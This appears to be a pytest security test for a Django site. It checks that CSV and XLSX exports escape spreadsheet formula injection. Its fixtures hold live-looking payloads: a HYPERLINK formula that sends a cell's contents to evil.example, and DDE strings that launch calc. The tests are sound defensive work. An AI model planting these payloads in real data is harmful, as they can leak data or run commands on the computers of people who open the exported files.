"""Finding 4: a text typed into the site that a spreadsheet would run as a formula
(CSV injection), in every CSV and XLSX the site writes."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.roles import ADMINISTRATOR
from tests import factories

# What a spreadsheet program reads as the start of a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LINK = '=HYPERLINK("http://evil.example/?"&B2,"open")'


@pytest.fixture
def hostile_world(village, station, officer, officer_user, staff_user, radio):
    """Texts that begin a formula, in each register a download reads."""
    village.name = LINK
    village.save()
    station.name = "+cmd|' /C calc'!A0"
    station.save()
    officer.surname = "@SUM(1+1)"
    officer.save()
    factories.make_vehicle(station, make="-2+3+cmd|' /C calc'!A0")
    factories.issue(officer, radio, by=staff_user)
    now = timezone.now()
    factories.make_shift(officer, now - datetime.timedelta(hours=10))
    factories.make_incident(officer, village=village)
    return {"station": station}


def downloads(station):
    month = timezone.localdate().strftime("%Y-%m")
    return [
        ("audit log", reverse("audit:auditentry_list"), {}),
        ("vehicles", reverse("stations:vehicle_list"), {}),
        ("acts", reverse("stations:handover_list"), {}),
        ("equipment", reverse("stations:equipmentitem_list"), {}),
        ("incidents", reverse("officers:incident_list"), {}),
        ("timesheet", reverse("officers:station_timesheet", args=[station.pk]), {"month": month}),
        ("monthly report", reverse("monthly_report"), {"month": month}),
    ]


def csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response) -> list:
    book = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_attack_a_formula_typed_into_a_register_never_runs_in_a_download(
    client_for, hostile_world, fmt
):
    admin = factories.make_user(ADMINISTRATOR, '=HYPERLINK("http://evil.example")')
    client = client_for(admin)
    client.get(reverse("stations:vehicle_list"))  # the username goes into the audit log
    problems = {}
    for name, url, params in downloads(hostile_world["station"]):
        response = client.get(url, {**params, "export": fmt})
        assert response.status_code == 200, name
        if fmt == "csv" and name != "monthly report":
            cells = csv_cells(response)
            texts = cells
            running = [c for c in cells if c.startswith(FORMULA_STARTS)]
        else:
            cells = xlsx_cells(response)
            texts = [str(c.value) for c in cells if c.value is not None]
            running = [c.value for c in cells if c.data_type == "f"]
        if not [t for t in texts if t.lstrip("'").startswith(FORMULA_STARTS)]:
            problems[name] = "the hostile texts should be in the download"
        elif running:
            problems[name] = running

    assert problems == {}


def test_the_escaped_text_keeps_what_was_typed(client_for, hostile_world):
    client = client_for(factories.make_user(ADMINISTRATOR))

    csv_text = csv_cells(client.get(reverse("officers:incident_list"), {"export": "csv"}))
    [xlsx_link] = [
        c.value
        for c in xlsx_cells(client.get(reverse("officers:incident_list"), {"export": "xlsx"}))
        if c.value == LINK
    ]

    assert "'" + LINK in csv_text
    assert xlsx_link == LINK


def test_a_negative_number_stays_a_number(client_for, hostile_world):
    from core import exports

    assert exports.csv_value(-5) == -5
    assert exports.csv_value("-5") == "'-5"
